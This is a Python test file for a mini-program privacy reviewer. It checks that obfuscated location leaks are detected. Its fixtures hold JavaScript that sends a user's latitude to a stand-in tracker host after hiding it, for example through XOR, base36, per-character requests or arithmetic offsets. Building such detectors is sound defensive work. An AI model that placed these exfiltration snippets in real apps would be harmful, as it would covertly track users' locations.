"""Flows that do not depend on the encoding: the differential walk (only the sources' values change) on both engines."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mpsandbox.apis.canary import CanaryRegistry
from mpsandbox.apis.sink_digest import payload_digest
from mpsandbox.review import ReviewOptions, review
from mpsandbox.review.gather import gather, load
from mpsandbox.review.policy import resolve_policy

TRACKER = "https://collect.tracker-example.net/p"
ENGINES = ["native", "wasm"]

# tt.getLocation -> tt.request to a tracker, after a transform the canary pass cannot undo (or, for the last two,
# can: the reversed text and character codes); each leak is a finding whatever the transform
TRANSFORMS = {
    "split-join": f"tt.request({{ url: '{TRACKER}?d=' + String(r.latitude).split('').join('|') }})",
    "offset": f"tt.request({{ url: '{TRACKER}', data: {{ v: r.latitude + 1234.5 }} }})",
    "scaled": f"tt.request({{ url: '{TRACKER}', method: 'POST', data: {{ v: r.latitude * 7.3 }} }})",
    "xor": f"tt.request({{ url: '{TRACKER}', data: {{ v: Array.from(String(r.latitude), "
           "(c) => (c.charCodeAt(0) ^ 0x5a).toString(16)).join('') } })",
    "base36": f"tt.request({{ url: '{TRACKER}?z=' + Math.round(r.latitude * 1e6).toString(36) }})",
    "per-char": f"for (const c of String(r.latitude)) tt.request({{ url: '{TRACKER}?c=' + encodeURIComponent(c) }})",
    "reversed": f"tt.request({{ url: '{TRACKER}?x=' + String(r.latitude).split('').reverse().join('') }})",
    "char-codes": f"tt.request({{ url: '{TRACKER}', data: {{ v: Array.from(String(r.latitude), "
                  "(c) => c.charCodeAt(0)) } })",
}
CANARY_EXPLAINS = {"reversed": "reversed", "char-codes": "char-codes"}


def location_bundle(root: Path, on_location: str) -> Path:
    """A Douyin bundle whose button reads the location and runs ``on_location`` with it as ``r``."""
    files = {
        "app.json": json.dumps({"pages": ["pages/index/index"],
                                "permission": {"scope.userLocation": {"desc": "to show shops near you"}}}),
        "app.js": "App({})",
        "pages/index/index.js": "Page({\n  go() {\n    tt.getLocation({ success: (r) => {\n      "
                                f"{on_location};\n    }} }});\n  }},\n}});\n",
        "pages/index/index.ttml": '<button bindtap="go">nearby</button>',
    }
    for path, text in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text, encoding="utf-8")
    return root


def _review(path: Path, engine: str):
    return review(path, ReviewOptions(engine=engine, allow_domains=["api.example.com"]))


def _leaks(report):
    return [f for f in report.findings if f.rule == "data-to-network"]


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("transform", list(TRANSFORMS))
def test_a_transformed_location_leak_is_a_flow(tmp_path, engine, transform):
    report = _review(location_bundle(tmp_path / transform, TRANSFORMS[transform]), engine)
    leaks = _leaks(report)
    assert leaks, [f"{f.rule}: {f.message}" for f in report.findings]
    leak = leaks[0]
    assert leak.severity.value == "error" and "collect.tracker-example.net" in leak.message
    assert "location from getLocation" in leak.message
    if transform in CANARY_EXPLAINS:  # the fast pass explains it
        assert f"({CANARY_EXPLAINS[transform]})" in leak.message
        return
    assert "encoding unknown: its payload changes with the source's value" in leak.message
    first, second = leak.evidence[0], leak.evidence[1]
    assert first.description.startswith("location from getLocation") and "first walk:" in first.description
    assert second.description.startswith("second walk")
    assert first.value["payload"] != second.value["payload"]  # the two payload excerpts, around the difference
    assert first.location is not None and first.location.file == "pages/index/index.js"
    assert any(e.description.startswith("candidate source: tt.getLocation") for e in leak.evidence)
    assert report.verdict.value == "reject"


@pytest.mark.parametrize("engine", ENGINES)
def test_reading_a_location_and_sending_a_constant_is_no_flow(tmp_path, engine):
    report = _review(location_bundle(tmp_path / "b", f"tt.request({{ url: '{TRACKER}', data: {{ ok: 1 }} }})"),
                     engine)
    assert not _leaks(report), [f.message for f in _leaks(report)]
    assert "domain-not-allowed" in {f.rule for f in report.findings}  # the request itself is still judged


@pytest.mark.parametrize("engine", ENGINES)
def test_a_branch_on_the_location_is_a_flow(tmp_path, engine):
    # the second walk's latitude is on the other side of 35 (its integer digit moves half-way round)
    report = _review(location_bundle(tmp_path / "b", f"if (r.latitude >= 35) tt.request({{ url: '{TRACKER}' }})"),
                     engine)
    leaks = _leaks(report)
    assert leaks and "it is made only with some values of the source" in leaks[0].message, \
        [f.message for f in report.findings]


def test_the_second_walk_runs_only_when_a_source_was_read(tmp_path):
    quiet = location_bundle(tmp_path / "quiet", "0")
    (quiet / "pages/index/index.js").write_text(f"Page({{ go() {{ tt.request({{ url: '{TRACKER}' }}); }} }});\n")
    for path, read in ((quiet, False), (location_bundle(tmp_path / "reads", "0"), True)):
        bundle, _ = load(path, None)
        art = gather(bundle, resolve_policy(None, "tt"), engine="native")
        run = art.runs[0]
        assert (run.twin is not None) is read and bool(run.sources_read) is read
        if read:
            assert run.sources_read == ["latitude@getLocation", "longitude@getLocation"]
            assert run.twin.trace.seed == run.trace.seed


def test_a_canary_variant_keeps_the_shapes_and_changes_every_random_character():
    first, second = CanaryRegistry(3), CanaryRegistry(3, variant=1)
    for kind, api in (("latitude", "getLocation"), ("longitude", "getLocation"), ("phoneNumber", "getPhoneNumber"),
                      ("nickName", "getUserInfo"), ("idNumber", "user-input"), ("code", "login")):
        a, b = str(first.issue(kind, api)), str(second.issue(kind, api))
        assert len(a) == len(b) and a != b
        fixed = {"latitude": 1, "longitude": 2, "phoneNumber": 1, "nickName": 6, "idNumber": 14, "code": 8}[kind]
        changed = sum(x != y for x, y in zip(a, b))
        assert changed >= len(a) - fixed - (1 if "." in a else 0), (kind, a, b)
    assert CanaryRegistry(3, variant=1).issue("latitude", "getLocation") == second.issue("latitude", "getLocation")


def test_the_sink_digest_removes_every_known_canary_form_and_keeps_the_rest():
    first, second = CanaryRegistry(0), CanaryRegistry(0, variant=1)
    lat1, lat2 = first.issue("latitude", "getLocation"), second.issue("latitude", "getLocation")

    def digest(registry, value):
        return payload_digest(value, registry)[0]

    for shape in (lambda v: {"lat": v}, lambda v: f"https://t.example/?ll={v}", lambda v: [str(v)[::-1], 1]):
        assert digest(first, shape(lat1)) == digest(second, shape(lat2))
    assert digest(first, {"lat": lat1 * 7}) != digest(second, {"lat": lat2 * 7})
    deep: object = "x"
    for _ in range(5000):  # depth costs no stack
        deep = [deep]
    assert digest(first, deep) == digest(second, deep)
    assert payload_digest({"a": "b" * 1000}, first)[1].endswith("…")


@pytest.mark.parametrize(("sink", "code", "rule", "severity"), [
    ("allowed domain", "tt.request({ url: 'https://api.example.com/near', data: { v: r.latitude * 3 } })", None, None),
    ("storage", "tt.setStorageSync('spot', r.latitude * 3)", "data-to-storage", "warning"),
    ("clipboard", "tt.setClipboardData({ data: 'at ' + (r.latitude - 1) })", "data-to-clipboard", "warning"),
    ("console", "console.log('near', Math.floor(r.longitude * 1000) % 977)", "data-to-console", "info"),
])
def test_hidden_flows_are_judged_like_the_canary_pass_s(tmp_path, sink, code, rule, severity):
    report = _review(location_bundle(tmp_path / "b", code), "native")
    privacy = [f for f in report.findings if f.category == "privacy"]
    if rule is None:  # after consent, with the scope declared, to an allow-listed domain: fine, as a plain value is
        assert not privacy and report.verdict.value == "approve", [f.message for f in privacy]
        return
    assert [(f.rule, f.severity.value) for f in privacy] == [(rule, severity)], [f.message for f in privacy]
    assert "encoding unknown" in privacy[0].message
